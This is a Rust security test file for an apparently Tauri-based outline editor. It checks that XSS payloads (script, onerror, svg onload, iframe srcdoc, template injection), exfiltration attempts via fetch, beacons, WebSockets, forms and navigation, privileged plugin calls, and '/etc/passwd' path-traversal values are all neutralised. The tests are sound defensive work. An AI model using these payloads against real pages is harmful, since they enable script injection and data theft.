//! A visit comes by mail from anybody. Whatever stands in it, the page stays, runs nothing and tells nobody.

use crate::driver::until;
use crate::office::Office;
use crate::page::Page;
use serde_json::{Value, json};
use std::io::Read;
use std::net::{TcpListener, TcpStream};
use std::sync::mpsc::{self, Receiver};

const OUTLINE: &str = r#"= 2020-09-21 Europe/Paris [08:00-19:00]
: title <script>window.breached = true</script>
!09:00 <img src=x onerror="window.breached = true"> ; 15 @ <style>body{display:none}</style> (Alès) #image
  note internal <a href="https://example.org/?secret">Appuyez ici</a>
> 20
</div></main><iframe srcdoc="<script>top.breached = true</script>"></iframe> {{7*7}} ; 45 @ "><svg onload=window.breached=true> (Alès) #frame
"#;

/// Where the page lives.
const HOME: &str = "tauri://localhost";

/// What a script would try if one ever ran in the page, and the directive of the policy that forbids it.
/// `there` is the address of somebody who listens.
const ATTEMPTS: [(&str, &str); 20] = [
    (
        "const it = make('script'); it.append('window.breached = true'); show(it)",
        "require-trusted-types-for",
    ),
    (
        "const it = make('script'); it.src = `${there}/script`; show(it)",
        "require-trusted-types-for",
    ),
    ("make('img').setAttribute('onerror', 'window.breached = true')", "require-trusted-types-for"),
    ("eval('window.breached = true')", "require-trusted-types-for"),
    ("new Function('window.breached = true')()", "require-trusted-types-for"),
    ("setTimeout('window.breached = true')", "require-trusted-types-for"),
    ("new Worker(URL.createObjectURL(new Blob(['0'])))", "require-trusted-types-for"),
    ("document.body.insertAdjacentHTML('beforeend', '<b>forged</b>')", "require-trusted-types-for"),
    ("trustedTypes.createPolicy('forged', {})", "trusted-types"),
    (
        "const it = make('a'); it.href = 'javascript:window.breached = true'; show(it); it.click()",
        "script-src-elem",
    ),
    ("const it = make('style'); it.append('body { display: none }'); show(it)", "style-src-elem"),
    (
        "const it = make('link'); it.rel = 'stylesheet'; it.href = `${there}/style`; show(it)",
        "style-src-elem",
    ),
    ("make('p').setAttribute('style', 'color: red')", "style-src-attr"),
    ("new Image().src = `${there}/image?secret`", "img-src"),
    ("new FontFace('forged', `url(${there}/font)`).load()", "font-src"),
    ("fetch(`${there}/fetch?secret`)", "connect-src"),
    ("navigator.sendBeacon(`${there}/beacon`, 'secret')", "connect-src"),
    ("new WebSocket(`${there.replace('http', 'ws')}/socket?secret`)", "connect-src"),
    ("const it = make('iframe'); it.src = `${there}/frame?secret`; show(it)", "frame-src"),
    ("const it = make('form'); it.action = `${there}/form`; show(it); it.submit()", "form-action"),
];

/// Ways out of the page that no policy forbids; the window itself holds it.
const WAYS_OUT: [&str; 6] = [
    "const it = make('a'); it.href = `${there}/link?secret`; show(it); it.click()",
    "const it = make('a'); it.href = `${there}/link?secret`; it.target = '_blank'; show(it); it.click()",
    "window.open(`${there}/window?secret`)",
    "const it = make('link'); it.rel = 'prefetch'; it.href = `${there}/prefetch?secret`; show(it)",
    "const it = make('meta'); it.httpEquiv = 'refresh'; it.content = `0;url=${there}/meta?secret`; show(it)",
    "location = `${there}/location?secret`",
];

/// Doors of Tauri and its plugins that the page could knock at.
const DOORS: [&str; 12] = [
    "plugin:opener|open_url",
    "plugin:opener|open_path",
    "plugin:opener|reveal_item_in_dir",
    "plugin:dialog|open",
    "plugin:dialog|save",
    "plugin:window-state|save_window_state",
    "plugin:window|destroy",
    "plugin:webview|create_webview_window",
    "plugin:webview|internal_toggle_devtools",
    "plugin:app|version",
    "plugin:path|resolve_directory",
    "plugin:event|emit",
];

#[test]
fn a_hostile_visit_is_words_and_nothing_else() {
    let Some(office) = Office::with_outline(OUTLINE) else { return };
    let page = Page::open(&office);
    assert_eq!(
        page.titles(),
        [
            r#"<img src=x onerror="window.breached = true">"#,
            r#"</div></main><iframe srcdoc="<script>top.breached = true</script>"></iframe> {{7*7}}"#,
        ]
    );
    page.expect_text("h1", "<script>window.breached = true</script>");
    page.expect("the note stands in its field as it was typed", |page| {
        let fields = "[...document.querySelectorAll('aside :is(input, textarea)')].map((field) => field.value)";
        let note = r#"<a href="https://example.org/?secret">Appuyez ici</a>"#;
        page.run(&format!("return {fields}"))
            .as_array()
            .is_some_and(|values| values.iter().any(|value| value == note))
    });
    assert_eq!(
        page.run("return document.querySelectorAll('main :is(img, iframe, script, style)').length"),
        0
    );
    assert_eq!(page.violations(), [""; 0]);

    let (there, said) = listener();
    for (attempt, directive) in ATTEMPTS {
        page.run("window.violations = []");
        try_it(&page, attempt, &there);
        page.expect(attempt, |page| page.violations() == [directive]);
    }
    for way in WAYS_OUT {
        try_it(&page, way, &there);
        assert_eq!(page.run("return location.href"), HOME, "{way}");
    }
    // The page is alive: it still takes an edit.
    page.press("Ctrl+Home");
    page.write("Accueil");
    page.press("Enter");
    page.expect("the title is the new one", |page| page.stops()[0][2] == "Accueil");
    assert_eq!(page.run("return window.breached ?? null"), Value::Null);
    assert_eq!(page.run("return location.href"), HOME);
    assert_eq!(heard(&there, &said), ["control"]);
    page.close();
}

#[test]
fn the_page_can_call_nothing_but_our_own_table() {
    let Some(office) = Office::with_sample() else { return };
    let page = Page::open(&office);
    let invoke = |name: &str, sent: &Value| {
        page.ask(&format!(
            "window.__TAURI_INTERNALS__.invoke('{name}', {sent}).then(
                 (answer) => done({{ answer }}), (refused) => done({{ refused }}))"
        ))
    };
    // The table itself answers, so that a refusal below is one.
    assert_eq!(invoke("rpc", &json!({"name": "boot", "sent": {}}))["answer"]["lang"], "fr");
    for door in DOORS {
        let answer = invoke(door, &json!({"url": "https://example.org/", "path": "/etc/passwd"}));
        let refused = answer["refused"].as_str().unwrap_or_default();
        assert!(refused.contains("not allowed"), "{door}: {answer}");
    }
    for (name, sent) in [
        ("no_such_call", json!({})),
        ("open_visit", json!({"key": "/etc/passwd", "stop": null})),
        ("open_visit", json!({"key": "0", "stop": null, "path": "/etc/passwd"})),
        ("export_sheet", json!({"sheet": "../../programme", "format": "pdf"})),
        ("edit", json!({"revision": -1, "stop": "accueil", "cell": "title", "text": "x"})),
    ] {
        let answer = invoke("rpc", &json!({"name": name, "sent": sent}));
        assert!(answer["refused"]["text"].is_string(), "{name} {sent}: {answer}");
    }
    page.close();
}

/// Tries something as a script in the page would; what throws has failed, and that is well.
fn try_it(page: &Page<'_>, attempt: &str, there: &str) {
    page.run(&format!(
        "const there = '{there}';
         const make = (name) => document.createElement(name);
         const show = (it) => document.body.append(it);
         try {{ {attempt} }} catch {{}}"
    ));
}

/// Somebody who listens at an address, and what is said to them: the first line of each request.
fn listener() -> (String, Receiver<String>) {
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let (says, said) = mpsc::channel();
    std::thread::spawn(move || {
        for mut caller in listener.incoming().flatten() {
            let says = says.clone();
            std::thread::spawn(move || {
                let mut bytes = [0; 512];
                let count = caller.read(&mut bytes).unwrap_or(0);
                let said = String::from_utf8_lossy(&bytes[..count]);
                // WebKit may open a connection before it asks whether it may use it; no word is said over it.
                let _ = said.lines().next().map(|line| says.send(line.to_owned()));
            });
        }
    });
    (address, said)
}

/// What has been said to the listener; the last word is our own, to know that it heard.
fn heard(there: &str, said: &Receiver<String>) -> Vec<String> {
    use std::io::Write;
    TcpStream::connect(there.trim_start_matches("http://")).unwrap().write_all(b"control").unwrap();
    let mut heard = Vec::new();
    until("the listener hears us", || {
        heard.extend(said.try_iter());
        heard.iter().any(|line| line == "control").then_some(())
    });
    heard
}
